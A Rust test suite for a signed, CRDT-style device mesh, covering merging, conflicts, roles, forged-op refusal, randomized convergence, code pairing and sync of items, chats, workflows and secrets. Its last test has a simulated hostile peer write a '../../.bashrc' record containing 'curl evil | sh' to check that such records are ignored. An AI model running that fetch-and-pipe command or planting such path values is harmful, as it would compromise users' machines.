//! The mesh's logic without a network: merging, roles, refusals, sync by anti-entropy, a line
//! of three devices, a seeded randomized convergence run with partitions and a lossy, duplicating,
//! reordering network (as Yjs and Automerge test theirs), and pairing by code.

use super::op::{new_key, sign};
use super::pair::{self, Invite, JoinerInfo, PairError, Welcome};
use super::replica::{device_record, Refused, Replica, Role};
use ed25519_dalek::SigningKey;
use fieldkit_messages::mesh::{Kind, Op, Set, SyncMsg, Value, DELETED, MAX_BATCH};

const T0: u64 = 1_790_000_000_000;

struct Dev {
    key: SigningKey,
    r: Replica,
}

impl Dev {
    fn pk(&self) -> [u8; 32] {
        self.key.verifying_key().to_bytes()
    }
}

/// A team of `n` devices: the first founded it and made the others `role`s; every device
/// holds the device records.
fn team(n: usize, role: Role) -> Vec<Dev> {
    let keys: Vec<SigningKey> = (0..n).map(|_| new_key().unwrap()).collect();
    let reps = Replica::team_of(&keys, role, T0);
    keys.into_iter()
        .zip(reps)
        .map(|(key, r)| Dev { key, r })
        .collect()
}

fn text(s: &str) -> Value {
    Value::Text(s.into())
}

/// Full anti-entropy from `a` to `b` (what `b` lacks of `a`'s), through the sync messages.
fn push(a: &Replica, b: &mut Replica, now: u64) -> usize {
    let mut n = 0;
    for m in a.answer(&b.have()) {
        let SyncMsg::Ops { ops, .. } = m else {
            unreachable!()
        };
        for o in ops {
            if b.receive(o, now).unwrap_or(false) {
                n += 1;
            }
        }
    }
    n
}

fn sync(devs: &mut [Dev], i: usize, j: usize, now: u64) {
    let (a, b) = if i < j {
        let (l, r) = devs.split_at_mut(j);
        (&mut l[i], &mut r[0])
    } else {
        let (l, r) = devs.split_at_mut(i);
        (&mut r[0], &mut l[j])
    };
    push(&a.r, &mut b.r, now);
    push(&b.r, &mut a.r, now);
}

#[test]
fn concurrent_edits_converge_and_the_loser_is_a_conflict() {
    let mut t = team(2, Role::Member);
    let (k0, k1) = (t[0].key.clone(), t[1].key.clone());
    t[0].r
        .write(&k0, Kind::Item, "i1", "title", text("fill water"), T0 + 10);
    sync(&mut t, 0, 1, T0 + 20);
    // Apart, both change the title; B's edit is later.
    t[0].r.write(
        &k0,
        Kind::Item,
        "i1",
        "title",
        text("fill water, 20 l"),
        T0 + 30,
    );
    t[1].r.write(
        &k1,
        Kind::Item,
        "i1",
        "title",
        text("fill water tanks"),
        T0 + 40,
    );
    // A also changes another field: no conflict there.
    t[0].r
        .write(&k0, Kind::Item, "i1", "state", text("doing"), T0 + 50);
    sync(&mut t, 0, 1, T0 + 60);
    assert_eq!(t[0].r.state_hash(), t[1].r.state_hash());
    let rec = t[1].r.record(Kind::Item, "i1").unwrap();
    assert_eq!(rec["title"], text("fill water tanks"));
    assert_eq!(rec["state"], text("doing"));
    for d in &t {
        let c = d.r.conflicts(Kind::Item, "i1");
        assert_eq!(c.len(), 1, "{c:?}");
        assert_eq!(c[0].field, "title");
        assert_eq!(c[0].value, text("fill water, 20 l"));
        assert_eq!(c[0].winner, text("fill water tanks"));
    }
    // Restoring the loser is a write that saw the winner: the conflict is settled.
    let lost = t[0].r.conflicts(Kind::Item, "i1")[0].value.clone();
    t[0].r.write(&k0, Kind::Item, "i1", "title", lost, T0 + 70);
    sync(&mut t, 0, 1, T0 + 80);
    assert_eq!(
        t[1].r.value(Kind::Item, "i1", "title"),
        Some(&text("fill water, 20 l"))
    );
    // An edit that saw the value before it is no conflict: only the old concurrent pair is.
    assert_eq!(t[1].r.conflicts(Kind::Item, "i1").len(), 0);
    // Deleted: a tombstone, and the record is gone on both.
    t[1].r
        .write(&k1, Kind::Item, "i1", DELETED, Value::Int(1), T0 + 90);
    sync(&mut t, 0, 1, T0 + 100);
    assert!(t[0].r.record(Kind::Item, "i1").is_none());
    assert_eq!(t[0].r.records(Kind::Item), vec!["i1".to_string()]);
}

#[test]
fn a_clock_behind_does_not_lose_edits_it_made_after_seeing_others() {
    let mut t = team(2, Role::Member);
    let (k0, k1) = (t[0].key.clone(), t[1].key.clone());
    // B's clock is an hour behind A's.
    t[0].r.write(&k0, Kind::Item, "i", "note", text("A's"), T0);
    sync(&mut t, 0, 1, T0 - 3_600_000);
    // B saw A's edit, then edits: B's wins although its wall clock says earlier.
    t[1].r.write(
        &k1,
        Kind::Item,
        "i",
        "note",
        text("B's, after"),
        T0 - 3_600_000 + 5,
    );
    sync(&mut t, 0, 1, T0 + 10);
    assert_eq!(
        t[0].r.value(Kind::Item, "i", "note"),
        Some(&text("B's, after"))
    );
    assert!(t[0].r.conflicts(Kind::Item, "i").is_empty());
}

#[test]
fn roles_are_enforced_by_every_receiver() {
    let mut t = team(3, Role::Member);
    let (k0, k2) = (t[0].key.clone(), t[2].key.clone());
    // The founder makes device 2 a guest.
    let rec = device_record(&t[2].pk());
    t[0].r
        .write(&k0, Kind::Device, &rec, "role", text("guest"), T0 + 1);
    sync(&mut t, 0, 1, T0 + 2);
    sync(&mut t, 0, 2, T0 + 2);
    // The guest's edit: refused by the others, nothing kept.
    let op = t[2]
        .r
        .write(&k2, Kind::Item, "i", "title", text("mine"), T0 + 3);
    assert_eq!(
        t[1].r.receive(op.clone(), T0 + 4),
        Err(Refused::NotAllowed(Role::Guest))
    );
    assert!(t[1].r.value(Kind::Item, "i", "title").is_none());
    // A member may not change the team's devices.
    let k1 = t[1].key.clone();
    let promote = t[1]
        .r
        .write(&k1, Kind::Device, &rec, "role", text("admin"), T0 + 5);
    assert_eq!(
        t[0].r.receive(promote, T0 + 6),
        Err(Refused::NotAllowed(Role::Member))
    );
    // A device not in the team.
    let stranger = new_key().unwrap();
    let mut s = Replica::new(stranger.verifying_key().to_bytes(), t[0].pk());
    let op = s.write(&stranger, Kind::Item, "i", "title", text("x"), T0);
    assert_eq!(t[0].r.receive(op, T0), Err(Refused::Unknown));
    // Revoked: its later changes are refused.
    let r1 = device_record(&t[1].pk());
    t[0].r
        .write(&k0, Kind::Device, &r1, "revoked", Value::Int(1), T0 + 7);
    let late = t[1]
        .r
        .write(&k1, Kind::Item, "i", "title", text("late"), T0 + 8);
    assert_eq!(t[0].r.receive(late, T0 + 9), Err(Refused::Unknown));
    assert!(t[0].r.role_of(&t[1].pk()).is_none());
}

#[test]
fn one_change_sets_many_fields_and_they_still_merge_one_by_one() {
    let mut t = team(2, Role::Member);
    let (k0, k1) = (t[0].key.clone(), t[1].key.clone());
    let f = |v: &[(&str, &str)]| -> Vec<(String, Value)> {
        v.iter().map(|(f, x)| (f.to_string(), text(x))).collect()
    };
    let ops = t[0].r.write_many(
        &k0,
        Kind::Item,
        "i",
        f(&[
            ("title", "pump"),
            ("state", "QUEUED"),
            ("body", "north well"),
        ]),
        T0 + 1,
    );
    assert_eq!(ops.len(), 1, "one change for three fields");
    assert_eq!(ops[0].sets.len(), 3);
    let (a, b) = t.split_at_mut(1);
    push(&a[0].r, &mut b[0].r, T0 + 2);
    // Apart: A changes the title, B the state, in changes of their own: both kept.
    t[0].r
        .write_many(&k0, Kind::Item, "i", f(&[("title", "pump 2")]), T0 + 3);
    t[1].r.write_many(
        &k1,
        Kind::Item,
        "i",
        f(&[("state", "DOING"), ("body", "south")]),
        T0 + 3,
    );
    let (a, b) = t.split_at_mut(1);
    push(&a[0].r, &mut b[0].r, T0 + 4);
    push(&b[0].r, &mut a[0].r, T0 + 4);
    for d in &t {
        let rec = d.r.record(Kind::Item, "i").unwrap();
        assert_eq!(rec["title"], text("pump 2"));
        assert_eq!(rec["state"], text("DOING"));
        assert_eq!(rec["body"], text("south"));
        assert!(d.r.conflicts(Kind::Item, "i").is_empty());
    }
    // The same field apart: one wins everywhere, the other is a conflict on that field alone.
    t[0].r
        .write_many(&k0, Kind::Item, "i", f(&[("title", "A's")]), T0 + 5);
    t[1].r.write_many(
        &k1,
        Kind::Item,
        "i",
        f(&[("title", "B's"), ("body", "b")]),
        T0 + 5,
    );
    let (a, b) = t.split_at_mut(1);
    push(&a[0].r, &mut b[0].r, T0 + 6);
    push(&b[0].r, &mut a[0].r, T0 + 6);
    assert_eq!(t[0].r.state_hash(), t[1].r.state_hash());
    for d in &t {
        let c = d.r.conflicts(Kind::Item, "i");
        assert_eq!(c.len(), 1, "{c:?}");
        assert_eq!(c[0].field, "title");
    }
    // Values too big for one change together go in several.
    let big = "x".repeat(40_000);
    let ops = t[0].r.write_many(
        &k0,
        Kind::Item,
        "j",
        vec![("a".into(), text(&big)), ("b".into(), text(&big))],
        T0 + 7,
    );
    assert_eq!(ops.len(), 2);
    assert!(ops.iter().all(|o| super::op::check_shape(o).is_ok()));
}

#[test]
fn altered_forged_replayed_and_future_changes_are_refused_or_absorbed() {
    let mut t = team(2, Role::Member);
    let k0 = t[0].key.clone();
    let op = t[0]
        .r
        .write(&k0, Kind::Item, "i", "title", text("real"), T0 + 1);
    // Altered on the way.
    let mut bad = op.clone();
    bad.sets[0].value = text("forged");
    assert!(matches!(t[1].r.receive(bad, T0 + 2), Err(Refused::Bad(_))));
    // Signed by another key than its origin's.
    let mut forged = op.clone();
    sign(&mut forged, &t[1].key);
    assert!(matches!(
        t[1].r.receive(forged, T0 + 2),
        Err(Refused::Bad(_))
    ));
    // Garbage signature, empty ids, oversized values.
    let mut g = op.clone();
    g.sig = vec![1, 2, 3];
    assert!(matches!(t[1].r.receive(g, T0), Err(Refused::Bad(_))));
    let mut g = op.clone();
    g.record.clear();
    assert!(matches!(t[1].r.receive(g, T0), Err(Refused::Bad(_))));
    let mut g = op.clone();
    g.sets[0].value = Value::Bytes(vec![0; fieldkit_messages::mesh::MAX_VALUE + 1]);
    assert!(matches!(t[1].r.receive(g, T0), Err(Refused::Bad(_))));
    // No field, a field set twice, values over a change's bound together.
    let mut g = op.clone();
    g.sets.clear();
    assert!(matches!(t[1].r.receive(g, T0), Err(Refused::Bad(_))));
    let mut g = op.clone();
    g.sets.push(g.sets[0].clone());
    assert!(matches!(t[1].r.receive(g, T0), Err(Refused::Bad(_))));
    let mut g = op.clone();
    g.sets = (0..3)
        .map(|i| Set {
            field: format!("f{i}"),
            value: Value::Bytes(vec![0; 30_000]),
            base: None,
            seen: vec![],
        })
        .collect();
    assert!(matches!(t[1].r.receive(g, T0), Err(Refused::Bad(_))));
    // The real one, twice: taken once.
    assert_eq!(t[1].r.receive(op.clone(), T0 + 2), Ok(true));
    assert_eq!(t[1].r.receive(op.clone(), T0 + 2), Ok(false));
    assert_eq!(t[1].r.len(), t[0].r.len());
    // Another change with the same number: the origin equivocates.
    let mut twin = op.clone();
    twin.sets[0].value = text("other");
    sign(&mut twin, &k0);
    assert_eq!(t[1].r.receive(twin, T0 + 2), Err(Refused::Equivocation));
    // From far in the future: refused, and the clock did not jump.
    let mut a = Replica::new(t[0].pk(), t[0].pk());
    let mut future = a.write(
        &k0,
        Kind::Item,
        "j",
        "t",
        text("later"),
        T0 + 10 * 3_600_000,
    );
    future.seq = 1_000;
    sign(&mut future, &k0);
    let before = t[1].r.clock();
    assert!(matches!(
        t[1].r.receive(future, T0),
        Err(Refused::Future(_))
    ));
    assert_eq!(t[1].r.clock(), before);
}

#[test]
fn ten_thousand_items_sync_in_batches_of_at_most_64_kib() {
    let mut t = team(2, Role::Member);
    let k0 = t[0].key.clone();
    let body = "x".repeat(900);
    for i in 0..10_000 {
        t[0].r.write(
            &k0,
            Kind::Item,
            &format!("item-{i:05}"),
            "body",
            text(&body),
            T0 + i,
        );
    }
    let batches = t[0].r.missing_for(&t[1].r.have());
    assert!(batches.len() > 100, "{} batches", batches.len());
    // The node answers with the first batch alone, read by range: the same batch.
    let (first, more) = t[0].r.first_missing(&t[1].r.have());
    assert_eq!(first, batches[0]);
    assert!(more);
    let mut have = t[1].r.have();
    have.retain(|(o, _)| *o != t[0].r.me);
    have.push((t[0].r.me, 9_999));
    let (last, more) = t[0].r.first_missing(&have);
    let me = t[0].r.me;
    let tail = t[0]
        .r
        .ops()
        .filter(|o| o.origin == me && o.seq > 9_999)
        .count();
    assert!(tail > 0);
    assert_eq!(last.len(), tail);
    assert!(!more);
    for b in &batches {
        let bytes = serde_json::to_vec(&SyncMsg::Ops {
            ops: b.clone(),
            more: true,
        })
        .unwrap()
        .len();
        // JSON spells bytes out; the estimate the batches are cut by is the wire's size.
        assert!(b.len() == 1 || bytes <= 2 * MAX_BATCH, "{bytes}");
    }
    let (a, b) = t.split_at_mut(1);
    assert_eq!(push(&a[0].r, &mut b[0].r, T0 + 20_000), 10_000);
    assert_eq!(t[0].r.state_hash(), t[1].r.state_hash());
    // Nothing more to send either way.
    assert!(t[0].r.missing_for(&t[1].r.have()).is_empty());
    assert!(t[1].r.missing_for(&t[0].r.have()).is_empty());
}

#[test]
fn a_line_of_three_converges_through_the_middle() {
    let mut t = team(3, Role::Member);
    let (k0, k2) = (t[0].key.clone(), t[2].key.clone());
    t[0].r
        .write(&k0, Kind::Item, "a", "title", text("from A"), T0 + 1);
    t[2].r
        .write(&k2, Kind::Chat, "c", "text", text("from C"), T0 + 2);
    // A-B and B-C only.
    for _ in 0..2 {
        sync(&mut t, 0, 1, T0 + 3);
        sync(&mut t, 1, 2, T0 + 3);
    }
    assert_eq!(t[0].r.state_hash(), t[2].r.state_hash());
    assert_eq!(
        t[2].r.value(Kind::Item, "a", "title"),
        Some(&text("from A"))
    );
    assert_eq!(t[0].r.value(Kind::Chat, "c", "text"), Some(&text("from C")));
}

/// A tiny seeded generator (xorshift64*): the run repeats exactly for a seed.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

#[test]
fn randomized_convergence_under_partitions_loss_duplication_and_reordering() {
    for seed in [1u64, 7, 42, 1_000_003, 0x5eed] {
        let mut rng = Rng(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
        let mut t = team(5, Role::Member);
        let keys: Vec<SigningKey> = t.iter().map(|d| d.key.clone()).collect();
        // In flight: (to, change).
        let mut net: Vec<(usize, Op)> = Vec::new();
        let mut written: Vec<Op> = Vec::new();
        // Two sides of a partition, redrawn now and then.
        let mut side: Vec<bool> = vec![false; 5];
        let mut now = T0;
        for step in 0..3_000 {
            now += rng.below(5);
            if step % 300 == 0 {
                side = (0..5).map(|_| rng.below(2) == 0).collect();
            }
            match rng.below(10) {
                // An edit, pushed to the others (its messages may be lost, doubled, late).
                0..=3 => {
                    let d = rng.below(5) as usize;
                    let rec = format!("r{}", rng.below(6));
                    let field = ["title", "state", "note"][rng.below(3) as usize];
                    let v = if rng.below(20) == 0 && field == "state" {
                        // Now and then a delete, or a record brought back.
                        let op = t[d].r.write(
                            &keys[d],
                            Kind::Item,
                            &rec,
                            DELETED,
                            Value::Int(rng.below(2) as i64),
                            now,
                        );
                        written.push(op.clone());
                        for to in 0..5 {
                            if to != d {
                                net.push((to, op.clone()));
                            }
                        }
                        continue;
                    } else {
                        text(&format!("{d}:{step}"))
                    };
                    let op = t[d].r.write(&keys[d], Kind::Item, &rec, field, v, now);
                    written.push(op.clone());
                    for to in 0..5 {
                        if to != d {
                            net.push((to, op.clone()));
                        }
                    }
                }
                // A message delivered (a random one: out of order), if the partition lets
                // it through; sometimes dropped, sometimes delivered twice.
                4..=7 if !net.is_empty() => {
                    let i = rng.below(net.len() as u64) as usize;
                    let (to, op) = net.swap_remove(i);
                    let from = t.iter().position(|d| d.r.me == op.origin).unwrap_or(0);
                    match rng.below(10) {
                        0 => {} // lost
                        1 => {
                            net.push((to, op.clone()));
                            let _ = t[to].r.receive(op, now);
                        }
                        _ if side[from] != side[to] => {} // partitioned: lost
                        _ => {
                            let _ = t[to].r.receive(op, now);
                        }
                    }
                }
                // Anti-entropy between two devices on the same side.
                _ => {
                    let (i, j) = (rng.below(5) as usize, rng.below(5) as usize);
                    if i != j && side[i] == side[j] {
                        sync(&mut t, i, j, now);
                    }
                }
            }
        }
        // The network heals: every pair syncs until nothing moves.
        for _ in 0..3 {
            for i in 0..5 {
                for j in 0..5 {
                    if i != j {
                        sync(&mut t, i, j, now);
                    }
                }
            }
        }
        let hash = t[0].r.state_hash();
        for (i, d) in t.iter().enumerate() {
            assert_eq!(d.r.state_hash(), hash, "seed {seed}: replica {i} differs");
            // Every acknowledged edit is there (as the value, or kept as history).
            for op in &written {
                assert!(
                    d.r.ops().any(|o| o == op),
                    "seed {seed}: replica {i} lacks change {} of {:?}",
                    op.seq,
                    op.origin
                );
            }
            // And the conflicts shown are the same everywhere.
            for r in 0..6 {
                assert_eq!(
                    d.r.conflicts(Kind::Item, &format!("r{r}")),
                    t[0].r.conflicts(Kind::Item, &format!("r{r}"))
                );
            }
        }
        assert!(written.len() > 800, "seed {seed}: {} edits", written.len());
    }
}

fn invite(code: &str, role: Role, expires_ms: u64) -> Invite {
    Invite {
        code: code.to_string(),
        role,
        expires_ms,
        used: false,
    }
}

fn welcome() -> Welcome {
    Welcome {
        team_key: [7; 32],
        vault_key: [9; 32],
        role: "member".into(),
        founder: [1; 32],
        inviter: [1; 32],
        inviter_name: "base-camp".into(),
        addrs: vec!["127.0.0.1:4100".into()],
    }
}

#[test]
fn pairing_with_the_right_code_trades_keys_sealed() {
    let code = pair::new_code().unwrap();
    assert_eq!(code.len(), pair::CODE_LEN);
    let mut invites = vec![invite(&code, Role::Member, T0 + 600_000)];
    // Typed back as a person might: lower case, with the dash, O for 0.
    let typed = pair::show_code(&code).to_lowercase().replace('0', "o");
    let (joiner, hello) = pair::Joiner::start(&typed).unwrap();
    // The code is not in what crosses.
    let wire = serde_json::to_string(&hello).unwrap();
    assert!(!wire.contains(&code[2..]), "{wire}");
    let (inviting, answer) = pair::answer(&mut invites, &hello, T0).unwrap();
    let me = JoinerInfo {
        key: [5; 32],
        name: "tent-2".into(),
    };
    let (joined, joining) = joiner.finish(&answer, &me).unwrap();
    assert_eq!(inviting.joiner(&joining).unwrap(), me);
    assert_eq!(inviting.role, Role::Member);
    let sealed = inviting.welcome(&welcome()).unwrap();
    assert!(
        !sealed.windows(32).any(|w| w == [7; 32]),
        "the team key is sealed"
    );
    assert_eq!(joined.welcome(&sealed).unwrap(), welcome());
    // Spent: the same code again is refused.
    let (_, hello) = pair::Joiner::start(&code).unwrap();
    assert_eq!(
        pair::answer(&mut invites, &hello, T0).err(),
        Some(PairError::Used)
    );
}

#[test]
fn a_wrong_code_fails_and_burns_the_invite_and_expired_ones_are_refused() {
    let code = "K7M2Q9XRTA";
    let mut invites = vec![invite(code, Role::Guest, T0 + 600_000)];
    // The right invite (first two characters), the rest wrong: one guess.
    let (joiner, hello) = pair::Joiner::start("K7M2Q9XRTB").unwrap();
    let (inviting, answer) = pair::answer(&mut invites, &hello, T0).unwrap();
    let me = JoinerInfo {
        key: [5; 32],
        name: "x".into(),
    };
    assert_eq!(
        joiner.finish(&answer, &me).err().map(|e| e.to_string()),
        Some(PairError::WrongCode.to_string())
    );
    // A joiner that sends a proof anyway is refused by the inviter.
    let forged = pair::Joining {
        proof: vec![0; 32],
        sealed: vec![0; 40],
    };
    assert_eq!(inviting.joiner(&forged), Err(PairError::WrongCode));
    // The invite is spent: the right code now fails too.
    let (_, hello) = pair::Joiner::start(code).unwrap();
    assert_eq!(
        pair::answer(&mut invites, &hello, T0).err(),
        Some(PairError::Used)
    );
    // Expired, and unknown.
    let mut invites = vec![invite(code, Role::Member, T0)];
    let (_, hello) = pair::Joiner::start(code).unwrap();
    assert_eq!(
        pair::answer(&mut invites, &hello, T0 + 1).err(),
        Some(PairError::Expired)
    );
    let (_, hello) = pair::Joiner::start("ZZM2Q9XRTA").unwrap();
    assert_eq!(
        pair::answer(&mut invites, &hello, T0).err(),
        Some(PairError::NoInvite)
    );
    // Garbage where a SPAKE2 message should be.
    let mut invites = vec![invite(code, Role::Member, T0 + 1)];
    let junk = pair::Hello {
        nameplate: "K7".into(),
        spake: vec![0xff; 7],
    };
    assert!(matches!(
        pair::answer(&mut invites, &junk, T0).err(),
        Some(PairError::Garbled(_))
    ));
    // Codes that are not codes.
    assert!(pair::parse_code("K7M2Q")
        .unwrap_err()
        .contains("10 characters"));
    assert!(pair::parse_code("K7M2Q-9XRTU")
        .unwrap_err()
        .contains("not in a pairing code"));
    assert_eq!(pair::parse_code("k7m2q-9xrta").unwrap(), code);
}

/// A work item with a history and a comment, as a queue holds it.
fn work_item(title: &str, at: i64) -> crate::engine::queue::Item {
    use crate::engine::queue::{Comment, Item, Priority, State, Transition};
    Item {
        id: crate::engine::queue::new_id(),
        title: title.into(),
        body: "check the pump".into(),
        state: State::InProgress,
        priority: Priority::High,
        role: "field".into(),
        assignee: "ana".into(),
        tags: vec!["water".into(), "camp".into()],
        project: "survey".into(),
        created: at,
        updated: at,
        due: Some(at + 3_600_000),
        links: vec!["file:/data/wells.csv".into()],
        history: vec![
            Transition {
                at,
                who: "ana".into(),
                from: None,
                to: State::Queued,
            },
            Transition {
                at: at + 5,
                who: "ana".into(),
                from: Some(State::Queued),
                to: State::InProgress,
            },
        ],
        comments: vec![Comment {
            at: at + 7,
            who: "ana".into(),
            text: "pump 2 leaks".into(),
        }],
    }
}

fn write_changes(d: &mut Dev, changes: Vec<super::items::Change>, now: u64) {
    for c in changes {
        d.r.write(&d.key, c.kind, &c.record, &c.field, c.value, now);
    }
}

/// `updated` is when a record last changed as each side's store says: left out of comparisons.
fn same_items(mut a: Vec<crate::engine::queue::Item>, mut b: Vec<crate::engine::queue::Item>) {
    for i in a.iter_mut().chain(b.iter_mut()) {
        i.updated = 0;
    }
    a.sort_by(|x, y| x.id.cmp(&y.id));
    b.sort_by(|x, y| x.id.cmp(&y.id));
    assert_eq!(a, b);
}

#[test]
fn work_items_with_history_and_comments_sync_into_the_other_queue() {
    use super::items;
    use crate::store::queue::QueueStore;
    let dir = tempfile::tempdir().unwrap();
    let mut qa = QueueStore::open(&dir.path().join("a.db")).unwrap();
    let mut qb = QueueStore::open(&dir.path().join("b.db")).unwrap();
    let its: Vec<_> = (0..3)
        .map(|i| work_item(&format!("job {i}"), 1_790_000_000_000 + i))
        .collect();
    qa.import(&its).unwrap();
    let mut t = team(2, Role::Member);
    for it in qa.export().unwrap() {
        write_changes(&mut t[0], items::changes(None, &it), T0 + 1);
    }
    sync(&mut t, 0, 1, T0 + 2);
    for it in items::items(&t[1].r) {
        qb.put_synced(&it).unwrap();
    }
    same_items(qa.export().unwrap(), qb.export().unwrap());
    // Twice is once: history and comments are not doubled.
    for it in items::items(&t[1].r) {
        qb.put_synced(&it).unwrap();
    }
    same_items(qa.export().unwrap(), qb.export().unwrap());

    // Apart: A renames job 0 and comments; B changes its priority and renames it too.
    let old = qa.export().unwrap()[0].clone();
    let mut on_a = old.clone();
    on_a.title = "job 0: pump".into();
    on_a.comments.push(crate::engine::queue::Comment {
        at: 1_790_000_000_100,
        who: "ana".into(),
        text: "parts ordered".into(),
    });
    let mut on_b = old.clone();
    on_b.priority = crate::engine::queue::Priority::Low;
    on_b.title = "job 0: well".into();
    write_changes(&mut t[0], items::changes(Some(&old), &on_a), T0 + 10);
    write_changes(&mut t[1], items::changes(Some(&old), &on_b), T0 + 20);
    assert_eq!(
        items::changes(Some(&old), &on_a).len(),
        1 + 4,
        "the title, and the new comment's four fields"
    );
    sync(&mut t, 0, 1, T0 + 30);
    let (ia, ib) = (items::items(&t[0].r), items::items(&t[1].r));
    same_items(ia.clone(), ib);
    let merged = ia.iter().find(|i| i.id == old.id).unwrap();
    assert_eq!(merged.title, "job 0: well", "the later title wins");
    assert_eq!(merged.priority, crate::engine::queue::Priority::Low);
    assert_eq!(merged.comments.len(), 2);
    let c = t[0].r.conflicts(Kind::Item, &old.id);
    assert_eq!(c.len(), 1);
    assert_eq!(c[0].value, Value::Text("job 0: pump".into()));
    // Deleted on one side: gone from both.
    write_changes(&mut t[1], vec![items::delete(&old.id)], T0 + 40);
    sync(&mut t, 0, 1, T0 + 50);
    assert_eq!(items::items(&t[0].r).len(), 2);
}

#[test]
fn a_device_record_names_its_device_and_other_records_none() {
    let k = new_key().unwrap().verifying_key().to_bytes();
    assert_eq!(super::replica::record_device(&device_record(&k)), Some(k));
    assert_eq!(super::replica::record_device("team-key"), None);
    assert_eq!(super::replica::record_device(&"zz".repeat(32)), None);
    assert_eq!(super::replica::record_device(&"é".repeat(32)), None);
}

#[test]
fn a_shared_chat_keeps_both_sides_messages_in_clock_order_and_drops_what_is_not_a_message() {
    use super::shared::{self, SharedMsg};
    let mut devs = team(2, Role::Member);
    let sid = "00112233aabbccdd";
    let m = |rec: &str, role: &str, content: &str, at: i64| SharedMsg {
        record: rec.into(),
        role: role.into(),
        content: content.into(),
        attachments: "[]".into(),
        meta: String::new(),
        at,
        deleted: false,
    };
    let (a_key, b_key) = (devs[0].pk(), devs[1].pk());
    let mut ch = shared::chat_changes(&devs[0].r, sid, "radio plan", "Be brief.");
    let a1 = shared::message_id(sid, &a_key, 1);
    ch.extend(shared::message_changes(
        &a1,
        &m(&a1, "user", "channel?", 1_000),
    ));
    write_changes(&mut devs[0], ch, T0 + 10);
    sync(&mut devs, 0, 1, T0 + 20);
    // Apart, both add a message; a peer also slips in a record that is no message.
    let b1 = shared::message_id(sid, &b_key, 1);
    let ch = shared::message_changes(&b1, &m(&b1, "assistant", "nine", 3_000));
    write_changes(&mut devs[1], ch, T0 + 30);
    let a2 = shared::message_id(sid, &a_key, 2);
    let ch = shared::message_changes(&a2, &m(&a2, "user", "and tomorrow?", 2_000));
    write_changes(&mut devs[0], ch, T0 + 31);
    let junk = format!("{sid}/ffffffff-1");
    {
        let d1 = &mut devs[1];
        d1.r.write(
            &d1.key,
            Kind::Chat,
            &junk,
            "content",
            text("no role"),
            T0 + 32,
        );
    }
    sync(&mut devs, 0, 1, T0 + 40);
    for d in &devs {
        let c = shared::chat(&d.r, sid).expect("the session");
        assert_eq!((c.name.as_str(), c.deleted), ("radio plan", false));
        let ms = shared::messages(&d.r, sid);
        let got: Vec<&str> = ms.iter().map(|m| m.content.as_str()).collect();
        assert_eq!(got, ["channel?", "and tomorrow?", "nine"]);
    }
    // A regenerated answer is a tombstone everywhere; the session's deletion too.
    write_changes(&mut devs[1], vec![shared::delete(Kind::Chat, &b1)], T0 + 50);
    write_changes(&mut devs[0], vec![shared::delete(Kind::Chat, sid)], T0 + 51);
    sync(&mut devs, 0, 1, T0 + 60);
    for d in &devs {
        let ms = shared::messages(&d.r, sid);
        assert!(ms.iter().any(|m| m.record == b1 && m.deleted));
        assert!(shared::chat(&d.r, sid).expect("tombstone").deleted);
    }
}

#[test]
fn shared_workflows_and_team_secrets_round_trip_and_hostile_records_are_left_out() {
    use super::shared::{self, SharedSecret};
    let mut devs = team(2, Role::Member);
    let text_a = "shared = true\n[[steps]]\nkind = \"shell\"\nrun = \"echo hi\"\n";
    let ch = shared::workflow_changes(&devs[0].r, "radio-check", text_a).expect("changes");
    write_changes(&mut devs[0], ch, T0 + 10);
    // The same text again is no change.
    assert!(shared::workflow_changes(&devs[0].r, "radio-check", text_a)
        .expect("same")
        .is_empty());
    assert!(shared::workflow_changes(&devs[0].r, "../../.bashrc", text_a).is_err());
    // A hostile peer writes a record whose name is a path: never listed.
    {
        let d1 = &mut devs[1];
        d1.r.write(
            &d1.key,
            Kind::Workflow,
            "../../.bashrc",
            "text",
            text("curl evil | sh"),
            T0 + 11,
        );
    }
    let key = [3u8; 32];
    let rec = "8899aabbccddeeff";
    let sealed = shared::seal(&key, rec, b"{\"title\":\"Radio net\"}").expect("seal");
    write_changes(&mut devs[1], shared::secret_change(rec, sealed), T0 + 12);
    sync(&mut devs, 0, 1, T0 + 20);
    for d in &devs {
        let w = shared::workflows(&d.r);
        assert_eq!(w.len(), 1, "{w:?}");
        assert_eq!(
            (w[0].name.as_str(), w[0].text.as_str()),
            ("radio-check", text_a)
        );
        assert_eq!(w[0].by, Some(devs[0].pk()));
        let Some(SharedSecret::Sealed(b)) = shared::secret(&d.r, rec) else {
            panic!("no sealed entry");
        };
        // Every device relays the bytes; only the team vault key opens them.
        assert_eq!(
            shared::open(&key, rec, &b).expect("open").as_slice(),
            b"{\"title\":\"Radio net\"}"
        );
        assert!(shared::open(&[4u8; 32], rec, &b).is_err());
    }
    write_changes(
        &mut devs[0],
        vec![shared::delete(Kind::Secret, rec)],
        T0 + 30,
    );
    sync(&mut devs, 0, 1, T0 + 40);
    assert_eq!(shared::secret(&devs[1].r, rec), Some(SharedSecret::Deleted));
}
